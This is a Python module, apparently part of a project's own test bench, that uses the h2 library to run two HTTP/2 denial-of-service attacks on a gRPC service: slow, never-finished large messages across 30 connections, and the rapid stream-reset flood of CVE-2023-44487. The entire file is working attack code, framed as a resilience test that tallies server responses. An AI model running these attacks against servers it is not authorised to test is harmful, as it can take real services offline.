"""Attacks below gRPC, by frames of HTTP/2: messages that never end, and streams that are reset as they begin."""

import select
import socket
import threading
from collections import Counter
from time import monotonic

import h2.config
import h2.connection
import h2.exceptions

from tests.bench.attacks.calls import Outcomes, Target

ANNOUNCED_BYTES = 30 << 20
WITHHELD_BYTES = 1000
READ_BYTES = 1 << 16


class Connection:
    """A connection of HTTP/2 that does as it is told."""

    def __init__(self, target: Target) -> None:
        host, port = target.address.rsplit(":", 1)
        self._socket = socket.create_connection((host, int(port)), timeout=5.0)
        self._state = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self._state.initiate_connection()
        self._headers = target.headers
        self.flush()

    def begin_call(self) -> int:
        """The headers of a call; returns the number of its stream."""
        number: int = self._state.get_next_available_stream_id()
        path = "/mnemon.v1.FactService/PutFact"
        headers = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x")]
        headers += self._headers
        self._state.send_headers(number, [*headers, ("te", "trailers"), ("content-type", "application/grpc")])
        return number

    def reset(self, stream: int) -> None:
        """Takes a call back."""
        self._state.reset_stream(stream)

    def send(self, stream: int, data: bytes) -> int:
        """Sends what the window lets through, at most one frame; returns how much that was."""
        size = min(self._state.local_flow_control_window(stream), self._state.max_outbound_frame_size, len(data))
        if size > 0:
            self._state.send_data(stream, data[:size])
            self.flush()
        return max(size, 0)

    def read(self) -> bool:
        """Takes what came; False where the other end has closed."""
        data = self._socket.recv(READ_BYTES)
        self._state.receive_data(data)
        self.flush()
        return bool(data)

    def read_what_came(self) -> None:
        """Takes what came, without waiting for anything."""
        if select.select([self._socket], [], [], 0.0)[0]:
            self.read()

    def flush(self) -> None:
        """Writes what is to be said."""
        self._socket.sendall(self._state.data_to_send())

    def close(self) -> None:
        """Hangs up."""
        self._socket.close()


def leave_messages_unfinished(target: Target, count: int = 30, seconds: float = 10.0) -> Outcomes:
    """Calls that send all of a large message but its last bytes, and then wait."""
    deadline = monotonic() + seconds
    connections = [Connection(target) for _ in range(count)]
    outcomes: Outcomes = Counter()
    threads = [threading.Thread(target=_send_most, args=(each, deadline, outcomes)) for each in connections]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    for connection in connections:
        connection.close()
    return outcomes


def _send_most(connection: Connection, deadline: float, outcomes: Outcomes) -> None:
    left = ANNOUNCED_BYTES - WITHHELD_BYTES
    try:
        stream = connection.begin_call()
        connection.send(stream, b"\0" + ANNOUNCED_BYTES.to_bytes(4))
        block = bytes(READ_BYTES)
        while monotonic() < deadline:
            sent = connection.send(stream, block[:left])
            left -= sent
            if not sent and not connection.read():
                break
    except TimeoutError:
        outcomes["held"] += 1
    except (OSError, h2.exceptions.H2Error):
        outcomes["ended by the server"] += 1
    else:
        outcomes["held" if monotonic() >= deadline else "ended by the server"] += 1


def reset_streams(target: Target, count: int = 20_000) -> Outcomes:
    """Calls that are taken back as they begin (CVE-2023-44487).

    What the server says is read: before its settings are acknowledged, it takes few calls.
    """
    outcomes: Outcomes = Counter()
    connection = Connection(target)
    for _ in range(count // 100):
        try:
            for _ in range(100):
                connection.reset(connection.begin_call())
            connection.flush()
            connection.read_what_came()
            outcomes["reset"] += 100
        except (OSError, h2.exceptions.H2Error):
            outcomes["connections cut"] += 1
            connection.close()
            connection = Connection(target)
    connection.close()
    return outcomes
